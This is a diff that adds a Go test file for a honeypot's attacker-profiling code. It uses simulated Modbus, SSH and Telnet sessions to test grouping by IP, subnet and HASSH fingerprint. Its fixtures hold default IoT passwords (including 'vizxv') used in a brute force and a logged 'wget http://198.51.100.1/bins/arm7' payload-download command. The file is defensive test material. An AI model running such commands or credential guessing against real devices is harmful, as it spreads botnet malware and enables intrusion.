@@ -0,0 +1,105 @@
+package attackers
+
+import (
+	"testing"
+	"time"
+
+	"github.com/riotpot/pkg/attackers"
+	"github.com/riotpot/pkg/events"
+	"github.com/riotpot/pkg/sessions"
+	"github.com/stretchr/testify/assert"
+)
+
+// Sessions of two hosts of the same network in several services
+func attackerSessions() []sessions.Session {
+	start := time.Date(2026, 1, 2, 3, 4, 5, 0, time.UTC)
+	store := sessions.NewStore(10)
+
+	add := func(session string, ev *events.Event, offset time.Duration) {
+		ev.Session = session
+		ev.Time = start.Add(offset)
+		store.Send(ev)
+	}
+
+	// A scan of Modbus
+	add("s1", events.NewEvent(events.ConnectionEvent, "", "203.0.113.7:40000"), 0)
+	add("s1", events.NewEvent(events.CommandEvent, "Modbus", "203.0.113.7:40000").With("command", "read_holding_registers"), time.Second)
+
+	// A brute force of SSH from the same host
+	add("s2", events.NewEvent(events.ConnectionEvent, "", "203.0.113.7:40001").With("hassh", "ec7378c1a92f5a8dde7e8b7a1ddf33d1"), time.Minute)
+	for _, password := range []string{"admin", "1234", "root", "admin"} {
+		add("s2", events.NewEvent(events.AuthEvent, "SSH", "203.0.113.7:40001").With("user", "root").With("password", password), time.Minute)
+	}
+
+	// Another host of the network with the same client logs in and downloads a file
+	add("s3", events.NewEvent(events.ConnectionEvent, "", "203.0.113.8:40000").With("hassh", "ec7378c1a92f5a8dde7e8b7a1ddf33d1"), time.Hour)
+	add("s3", events.NewEvent(events.AuthEvent, "Telnet", "203.0.113.8:40000").With("user", "root").With("password", "vizxv").With("success", true), time.Hour)
+	add("s3", events.NewEvent(events.CommandEvent, "Telnet", "203.0.113.8:40000").With("command", "wget http://198.51.100.1/bins/arm7"), time.Hour)
+
+	return store.GetSessions(time.Time{})
+}
+
+func TestProfilesByIP(t *testing.T) {
+	profiles := attackers.Profiles(attackerSessions(), attackers.IPGroup)
+	assert.Len(t, profiles, 2)
+
+	p := profiles[0]
+	assert.Equal(t, "203.0.113.7", p.ID)
+	assert.Equal(t, []string{"s1", "s2"}, p.Sessions)
+	assert.Equal(t, []string{"Modbus", "SSH"}, p.Services)
+	assert.Equal(t, 4, p.Attempts)
+	assert.Len(t, p.Credentials, 3)
+	assert.Equal(t, []string{"read_holding_registers"}, p.Commands)
+	assert.Equal(t, time.Minute, p.LastSeen.Sub(p.FirstSeen))
+	assert.Equal(t, attackers.Bruteforcer, p.Class)
+
+	p = profiles[1]
+	assert.Equal(t, "203.0.113.8", p.ID)
+	assert.Equal(t, []string{"http://198.51.100.1/bins/arm7"}, p.URLs)
+	assert.Equal(t, attackers.Exploiter, p.Class)
+}
+
+func TestProfilesBySubnet(t *testing.T) {
+	ss := attackerSessions()
+
+	profiles := attackers.Profiles(ss, attackers.SubnetGroup)
+	assert.Len(t, profiles, 1)
+
+	p := profiles[0]
+	assert.Equal(t, "203.0.113.0/24", p.ID)
+	assert.Equal(t, []string{"203.0.113.7", "203.0.113.8"}, p.Addresses)
+	assert.Equal(t, []string{"Modbus", "SSH", "Telnet"}, p.Services)
+	assert.Equal(t, attackers.Exploiter, p.Class)
+
+	// The networks can be found by any of their IPs
+	found, err := attackers.GetProfile(ss, attackers.SubnetGroup, "203.0.113.200")
+	assert.NoError(t, err)
+	assert.Equal(t, p.ID, found.ID)
+
+	_, err = attackers.GetProfile(ss, attackers.IPGroup, "198.51.100.1")
+	assert.Error(t, err)
+
+	assert.Equal(t, "2001:db8:1:2::/64", attackers.Subnet("2001:db8:1:2:3::4"))
+}
+
+func TestProfilesByFingerprint(t *testing.T) {
+	profiles := attackers.Profiles(attackerSessions(), attackers.FingerprintGroup)
+	assert.Len(t, profiles, 2)
+
+	// The sessions without fingerprint are grouped by IP
+	assert.Equal(t, "203.0.113.7", profiles[0].ID)
+	assert.Equal(t, attackers.Scanner, profiles[0].Class)
+
+	assert.Equal(t, "hassh:ec7378c1a92f5a8dde7e8b7a1ddf33d1", profiles[1].ID)
+	assert.Equal(t, []string{"s2", "s3"}, profiles[1].Sessions)
+	assert.Equal(t, []string{"203.0.113.7", "203.0.113.8"}, profiles[1].Addresses)
+}
+
+func TestParseGroupBy(t *testing.T) {
+	by, err := attackers.ParseGroupBy("")
+	assert.NoError(t, err)
+	assert.Equal(t, attackers.IPGroup, by)
+
+	_, err = attackers.ParseGroupBy("country")
+	assert.Error(t, err)
+}